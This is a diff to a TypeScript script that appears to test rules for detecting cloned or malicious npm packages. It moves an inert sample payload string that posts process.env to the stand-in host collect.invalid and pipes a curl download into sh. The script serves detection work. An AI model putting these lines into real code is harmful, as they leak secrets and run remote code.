@@ -24,6 +24,11 @@ const { values } = parseArgs({
 })
 const shipped = openKnown(readFileSync(join(import.meta.dirname, '../../likeness/known.bin')), 'likeness/known.bin')
 const rules = [cloneCopiesPackage, cloneCopiesReadme, cloneAddsCode]
+/** Inert: it is analysed and never run. */
+const payload = `const h = require('https'), c = require('child_process')
+h.request({ host: 'collect.invalid', method: 'POST' }).end(JSON.stringify(process.env))
+c.exec('curl https://collect.invalid/x | sh')
+`
 const say = (text: string) => void process.stdout.write(`${text}\n`)
 
 if (values.honest.length + values.malicious.length === 0) {
@@ -53,6 +58,7 @@ function saidOf(
 
 async function printSaid(what: string, from: readonly string[]): Promise<void> {
   const paths = archivesIn(from)
+  if (paths.length === 0) return
   const inspectors = createInspectors()
   const said = new Map<string, string[]>(rules.map(({ id }) => [id, []]))
   let read = 0
@@ -72,11 +78,6 @@ async function printSaid(what: string, from: readonly string[]): Promise<void> {
     for (const line of lines.sort()) say(`  ${line}`)
   }
 }
-
-const payload = `const h = require('https'), c = require('child_process')
-h.request({ host: 'collect.invalid', method: 'POST' }).end(JSON.stringify(process.env))
-c.exec('curl https://collect.invalid/x | sh')
-`
 
 /** Each of them under another name, once with a script of its own and once with something added to its entry. */
 async function printClones(paths: readonly string[]): Promise<void> {
